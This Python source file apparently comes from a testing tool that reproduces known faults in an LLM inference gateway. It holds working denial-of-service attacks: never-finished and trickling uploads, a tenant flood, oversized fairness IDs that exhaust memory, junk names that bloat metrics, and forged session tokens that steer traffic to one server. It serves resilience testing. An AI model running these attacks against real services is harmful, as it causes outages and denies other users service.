"""Known faults 6 to 8, 10 and 12: clients that hold connections or send many identities."""

import asyncio
import base64
import itertools
from collections.abc import Iterator
from typing import ClassVar

from tools.attacks.attack import Attack, Needs, Posts, Setup, Tally, Target, paced
from tools.attacks.sending import COMPLETIONS, HOST, Sender, head, post

ALL_SETUPS = Needs(setups=tuple(Setup))
WITH_FLOWS = Needs(setups=(Setup.FLOW, Setup.SELF_NAMED_FLOWS))
FAIRNESS = "x-llm-d-inference-fairness-id"
API_KEY = "x-api-key"
SMALL = b'{"model":"tiny","max_tokens":1,"prompt":"x"}'
"""The prefix cache sends all of these to the server that got the first one."""

_numbers = itertools.count()


def fresh_completion() -> bytes:
    """Return a small body whose prompt is new, so that any server may get it."""
    return b'{"model":"tiny","max_tokens":1,"stream":true,"prompt":"%d"}' % next(_numbers)


def fresh_chat() -> bytes:
    """Return the same for a chat."""
    message = b'{"role":"user","content":"%d"}' % next(_numbers)
    return b'{"model":"tiny","max_tokens":1,"stream":true,"messages":[%b]}' % message


class SilentUploads(Attack):
    """Bodies of 60 MB that are never finished, and small ones that fill the rest of the limit.

    With nine of them, every 100 KB request got 503 until they left. Ended connections are reopened.
    """

    name = "silent-uploads"
    item = 6
    needs = ALL_SETUPS
    large: ClassVar[tuple[int, int]] = (9, 60_000_000)
    """Number of bodies and bytes of each; they fill three quarters of the held-bytes limit."""
    small: ClassVar[tuple[int, int]] = (200, 1_000_000)
    """As much of a body as is read by then; they fill the rest."""

    piece_bytes: ClassVar[int] = 60_000
    """Sent at once, as one message, which the endpoint picker counts when it is complete."""

    async def run(self, target: Target, tally: Tally) -> None:
        async with asyncio.TaskGroup() as tasks:
            for count, size in (self.large, self.small):
                body = b'{"prompt":"' + b"a" * size
                for _ in range(count):
                    tasks.create_task(self._upload(target, body, tally))

    async def _upload(self, target: Target, body: bytes, tally: Tally) -> None:
        while True:
            try:
                reader, writer = await asyncio.open_connection(HOST, target.gateway)
            except OSError:
                tally["no connection"] += 1
                await asyncio.sleep(1)
                continue
            try:
                writer.write(head(len(body) + 2, COMPLETIONS))
                for start in range(0, len(body), self.piece_bytes):
                    writer.write(body[start : start + self.piece_bytes])
                    await writer.drain()
                    await asyncio.sleep(0.01)
                tally["sent but for the end"] += 1
                line = await reader.readline()  # nothing arrives until the body is refused
                tally[line[9:12].decode() or "broken off"] += 1
            except OSError:
                tally["broken off"] += 1
            finally:
                writer.transport.abort()
            await asyncio.sleep(1)


class ByteTrickles(Attack):
    """200 uploads of a byte a second: each is a request that never ends."""

    name = "byte-trickles"
    item = 6
    needs = ALL_SETUPS
    uploads: ClassVar[int] = 200

    async def run(self, target: Target, tally: Tally) -> None:
        async with asyncio.TaskGroup() as tasks:
            for number in range(self.uploads):
                tasks.create_task(self._trickle(target, tally, number / self.uploads))

    async def _trickle(self, target: Target, tally: Tally, after: float) -> None:
        await asyncio.sleep(5 * after)
        while True:
            try:
                _, writer = await asyncio.open_connection(HOST, target.gateway)
                writer.write(head(10_000_000, COMPLETIONS))
                while not writer.is_closing():
                    writer.write(b"a")
                    await writer.drain()
                    await asyncio.sleep(1)
            except OSError:
                tally["broken off"] += 1
            await asyncio.sleep(1)


class TenantFlood(Posts):
    """One tenant sends more than the pool can serve and its band may hold.

    26 of 29 requests of other tenants got 429.
    """

    name = "tenant-flood"
    item = 7
    needs = WITH_FLOWS
    rate = 180.0
    at_once = 600

    def requests(self) -> Iterator[bytes]:
        body = b'{"model":"tiny","max_tokens":20,"ignore_eos":true,"prompt":"flood"}'
        yield post(body, COMPLETIONS, {FAIRNESS: "flooding", API_KEY: "flooding"})


class LongFairnessIds(Posts):
    """Fairness ids of 50 KB, all different, were kept: RSS 3 GB."""

    name = "long-fairness-ids"
    item = 8
    needs = ALL_SETUPS
    rate = 40.0

    def requests(self) -> Iterator[bytes]:
        yield post(SMALL, COMPLETIONS)

    async def run(self, target: Target, tally: Tally) -> None:
        sender = Sender(target.gateway, tally, self.at_once)
        async with sender, asyncio.TaskGroup() as tasks:
            async for number in paced(self.rate):
                request = post(SMALL, COMPLETIONS, {FAIRNESS: f"{number}-" * 7_000})
                sender.launch(tasks, request)


class JunkNames(Posts):
    """Unknown models, fairness ids and objectives, all different.

    After 240 000 requests, the metrics page had 52 MB and a scrape took 6 to 11 s.
    """

    name = "junk-names"
    item = 10
    needs = ALL_SETUPS
    rate = 150.0
    at_once = 100

    def requests(self) -> Iterator[bytes]:
        for number in range(60_000):
            body = b'{"model":"junk-%d","max_tokens":1,"prompt":"x"}' % number
            headers = {FAIRNESS: f"f-{number}", "x-llm-d-inference-objective": f"o-{number}"}
            yield post(body, COMPLETIONS, headers)


class ForgedTokens(Attack):
    """Session tokens are the base64 of a server's name: a forged one sends all to one server.

    The tally counts how many of the responses came from the named server.
    """

    name = "forged-tokens"
    item = 12
    needs = WITH_FLOWS
    rate: ClassVar[float] = 10.0
    server: ClassVar[str] = "default/endpoint-0"

    async def run(self, target: Target, tally: Tally) -> None:
        token = base64.b64encode(self.server.encode()).decode()
        request = post(SMALL, COMPLETIONS, {"x-session-token": token})
        async with Sender(target.gateway, tally, 50) as sender:
            async for _ in paced(self.rate):
                headers = await sender.ask(request)
                served = headers.get(b"x-session-token", b"")
                if served:
                    named = base64.b64decode(served + b"===").startswith(self.server.encode())
                    tally["served by the server named" if named else "served by another"] += 1
